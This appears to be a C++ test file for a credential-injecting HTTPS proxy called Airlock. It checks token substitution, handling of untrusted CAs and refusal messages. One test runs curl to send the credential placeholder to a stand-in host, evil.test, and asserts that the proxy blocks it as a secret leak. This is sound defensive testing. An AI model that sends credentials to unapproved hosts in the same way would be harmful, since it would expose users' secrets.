// The proxy as real clients use it: curl (a subprocess) with --proxy http://<session>:<token>@127.0.0.1:P
// and --cacert <Airlock's CA>, exactly what HTTPS_PROXY and CURL_CA_BUNDLE from sandbox_env give a sandbox.
#include <doctest/doctest.h>

#include <algorithm>
#include <mutex>

#include "test_support.hpp"

namespace airlock::proxy::test {

namespace {

void use_session(Fixture& f, std::vector<std::string> hosts) {
  f.slot.store(snapshot_of({session_entry(std::string(kSession), std::string(kToken),
                                          {env_credential("vcrd_1", "METRICS_API_TOKEN", std::string(kPlaceholder),
                                                          kSecret, std::move(hosts))})}));
}

// curl through the proxy; proxy variables from the environment are dropped so that only --proxy counts.
std::pair<int, std::string> curl(Fixture& f, const std::string& arguments) {
  return run_command(fmt::format(
      "env -u NO_PROXY -u no_proxy -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy -u ALL_PROXY "
      "curl -sS --max-time 20 --proxy 'http://{}:{}@127.0.0.1:{}' --cacert '{}' {}",
      kSession, kToken, f.proxy_port(), f.airlock_ca_file.string(), arguments));
}

}  // namespace

TEST_CASE("curl: -H \"Authorization: Bearer $PLACEHOLDER\"") {
  Fixture f;
  use_session(f, {"localhost"});
  f.start();
  const auto [status, out] =
      curl(f, fmt::format("-H 'Authorization: Bearer {}' https://localhost:{}/echo", kPlaceholder, f.origin.port()));
  CHECK(status == 0);
  CHECK(contains(out, fmt::format("Authorization: Bearer {}", kPlaceholder)));
  CHECK_FALSE(contains(out, kSecret));
  const auto captured = f.origin.last();
  REQUIRE(captured);
  CHECK(*captured->head.headers.find("Authorization") == fmt::format("Bearer {}", kSecret));
  CHECK(captured->head.headers.find("Proxy-Authorization") == nullptr);
}

TEST_CASE("curl: a client that does not trust Airlock's CA is audited client_untrusted_ca, and the log says what to do") {
  Fixture f;
  use_session(f, {"localhost"});
  std::vector<std::string> lines;
  std::mutex mutex;
  ProxyOptions o = f.options();
  o.log = [&](LogLevel, std::string_view line) {
    const std::lock_guard lock(mutex);
    lines.emplace_back(line);
  };
  f.start(std::move(o));
  // curl trusting only the origin's CA: it rejects Airlock's leaf with an unknown_ca alert.
  const auto [status, out] = run_command(fmt::format(
      "env -u HTTPS_PROXY -u https_proxy curl -sS --max-time 20 --proxy 'http://{}:{}@127.0.0.1:{}' --cacert '{}' "
      "https://localhost:{}/echo",
      kSession, kToken, f.proxy_port(), f.origin_ca_file.string(), f.origin.port()));
  CHECK(status == 60);  // curl: peer certificate cannot be authenticated with known CA certificates
  const auto record = f.sink.wait_for_reason("client_untrusted_ca");
  REQUIRE(record);
  CHECK(record->decision == "error");
  CHECK(record->host == "localhost");
  CHECK(f.proxy->stats().refused.at("client_untrusted_ca") == 1);
  CHECK(f.proxy->stats().refused.count("client_tls_failed") == 0);
  const std::lock_guard lock(mutex);
  CHECK(std::any_of(lines.begin(), lines.end(), [](const std::string& line) {
    return line.starts_with("proxy: client_untrusted_ca: the sandbox rejected Airlock's certificate for localhost: it "
                            "does not trust Airlock's CA. Give it the bundle");
  }));
}

TEST_CASE("curl: -u user:$PLACEHOLDER") {
  Fixture f;
  use_session(f, {"localhost"});
  f.start();
  const auto [status, out] = curl(f, fmt::format("-u 'alice:{}' https://localhost:{}/echo", kPlaceholder, f.origin.port()));
  CHECK(status == 0);
  const auto captured = f.origin.last();
  REQUIRE(captured);
  CHECK(*captured->head.headers.find("Authorization") == "Basic " + b64("alice:" + std::string(kSecret)));
}

TEST_CASE("curl: a POST body with the placeholder") {
  Fixture f;
  use_session(f, {"localhost"});
  f.start();
  const auto [status, out] = curl(f, fmt::format("-H 'Content-Type: application/json' --data '{{\"key\":\"{}\"}}' "
                                                 "https://localhost:{}/echo",
                                                 kPlaceholder, f.origin.port()));
  CHECK(status == 0);
  CHECK(contains(out, fmt::format("{{\"key\":\"{}\"}}", kPlaceholder)));
  CHECK_FALSE(contains(out, kSecret));
  const auto captured = f.origin.last();
  REQUIRE(captured);
  const std::string expected = fmt::format("{{\"key\":\"{}\"}}", kSecret);
  CHECK(captured->body == expected);
  CHECK(*captured->head.headers.find("Content-Length") == std::to_string(expected.size()));
}

TEST_CASE("curl: two URLs in one run share the tunnel and the upstream connection") {
  Fixture f;
  use_session(f, {"localhost"});
  f.start();
  const auto [status, out] = curl(f, fmt::format("https://localhost:{}/echo?a=1 https://localhost:{}/echo?a=2",
                                                 f.origin.port(), f.origin.port()));
  CHECK(status == 0);
  CHECK(contains(out, "GET /echo?a=1 HTTP/1.1"));
  CHECK(contains(out, "GET /echo?a=2 HTTP/1.1"));
  CHECK(f.origin.connections() == 1);
  CHECK(f.origin.requests().size() == 2);
}

TEST_CASE("curl: a refusal reaches the agent as a readable 403") {
  Fixture f;
  use_session(f, {"localhost"});
  f.start();
  const auto [status, out] = curl(f, fmt::format("-w '\\n%{{http_code}}' -H 'X-Key: {}' https://evil.test:{}/echo",
                                                 kPlaceholder, f.origin.port()));
  CHECK(status == 0);
  CHECK(out ==
        "placeholder_violation: the placeholder of METRICS_API_TOKEN may not be sent to evil.test; add evil.test to "
        "that credential's networking.allowed_hosts, or remove the placeholder from the request\n\n403");
  CHECK(f.origin.requests().empty());
}

TEST_CASE("curl: plain http:// through HTTP_PROXY") {
  Fixture f(Origin::Options{.tls = false, .fixed_name = {}, .record = true, .handler = {}});
  use_session(f, {"localhost"});
  f.start();
  const auto [status, out] = curl(f, fmt::format("-H 'X-N: 7' http://localhost:{}/echo?q=1", f.origin.port()));
  CHECK(status == 0);
  CHECK(contains(out, "GET /echo?q=1 HTTP/1.1"));
  CHECK(contains(out, "X-N: 7"));
  const auto record = f.sink.wait_for(1);
  REQUIRE(record);
  CHECK(record->path == "/echo");
  CHECK(record->decision == "allowed");
}

}  // namespace airlock::proxy::test
